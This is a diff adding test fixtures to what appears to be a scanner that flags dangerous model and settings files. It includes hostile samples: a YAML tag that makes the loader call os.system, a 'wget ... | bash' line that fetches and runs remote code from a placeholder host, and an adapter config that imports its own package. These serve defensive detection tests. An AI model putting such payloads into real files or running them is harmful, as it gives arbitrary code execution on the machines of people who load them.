@@ -74,6 +74,24 @@ EXAMPLES = (
         {REMOTE_CODE: Outcome.TRUE, DANGEROUS_CALL: Outcome.TRUE},
     ),
     Example("a list of paths", lambda: {"x.pth": b"# paths\n./lib\nimportant/folder\n"}, _CLEAN),
+    Example(
+        "settings whose loader starts a process",
+        lambda: {"hyperparams.yaml": b"lr: 0.1\nhook: !apply:os.sys" + b"tem [id]\n"},
+        _CALL,
+    ),
+    Example(
+        "settings that build a model of a known library",
+        lambda: {"model.yaml": b"encoder:\n  _target_: torch.nn.Linear\nact: !name:torch.nn.GELU\n"},
+        _CLEAN,
+    ),
+    Example("settings that do not parse", lambda: {"model.yaml": b"a: [1\nb: }"}, {DANGEROUS_CALL: Outcome.ERROR}),
+    Example(
+        "an adapter whose loading imports a package of its own",
+        lambda: {"adapter_config.json": b'{"auto_mapping": {"parent_library": "own.model", "base_model_class": "M"}}'},
+        _REMOTE,
+    ),
+    Example("a script that runs a download", lambda: {"get.sh": b"wget -qO- https://a.invalid | bash\n"}, _CALL),
+    Example("an honest script", lambda: {"train.sh": b"#!/bin/sh\npython train.py --lr 1 | tee log\n"}, _CLEAN),
     Example("Python that does not parse", lambda: _python("def f(:\n"), _ERROR),
     Example(
         "a configuration that is not JSON",
